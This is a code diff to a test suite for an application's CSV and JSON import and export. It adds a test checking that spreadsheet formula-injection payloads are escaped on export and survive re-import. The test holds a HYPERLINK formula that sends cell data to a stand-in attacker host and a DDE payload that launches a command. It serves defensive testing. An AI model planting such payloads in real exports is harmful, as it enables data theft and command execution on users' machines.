@@ -208,6 +208,32 @@ describe('import and export', () => {
     expect(reexported.body).toEqual(exported.body);
   });
 
+  it('escapes formula-injection payloads in the CSV export and imports the export back unchanged', async () => {
+    const payload = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
+    const created = await stack.request('POST', '/controls', {
+      token: manager,
+      body: {
+        name: "+cmd|' /C calc'!A0",
+        owner: 'ops-team',
+        kind: 'organisational',
+        process: 'security',
+        procedure: { type: 'manual', instructions: payload },
+      },
+    });
+    expect(created.status).toBe(201);
+    const csvOut = await stack.request('GET', '/controls/export?format=csv', { token: auditor });
+    expect(csvOut.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
+    expect(csvOut.body).toMatch(/^'\+cmd\|' \/C calc'!A0,/m);
+    const before = await stack.request('GET', '/controls/export?format=json', { token: auditor });
+    const again = await stack.request('POST', '/controls/import', {
+      token: manager,
+      rawBody: csvOut.body,
+      headers: { 'content-type': 'text/csv' },
+    });
+    expect(again.status).toBe(200);
+    expect((await stack.request('GET', '/controls/export?format=json', { token: auditor })).body).toEqual(before.body);
+  });
+
   it('rejects a file with bad rows whole, naming every bad row, writing nothing', async () => {
     const before = await stack.db
       .selectFrom('controls')
@@ -248,7 +274,7 @@ describe('import and export', () => {
       headers: { 'content-type': 'text/csv' },
     });
     expect(csvBad.status).toBe(400);
-    expect(csvBad.body.errors).toEqual([{ path: 'file', message: 'line 2: a quoted field is never closed' }]);
+    expect(csvBad.body.errors).toEqual([{ path: 'file', message: 'line 3: a quoted field is never closed (the file ends inside it)' }]);
 
     const after = await stack.db
       .selectFrom('controls')
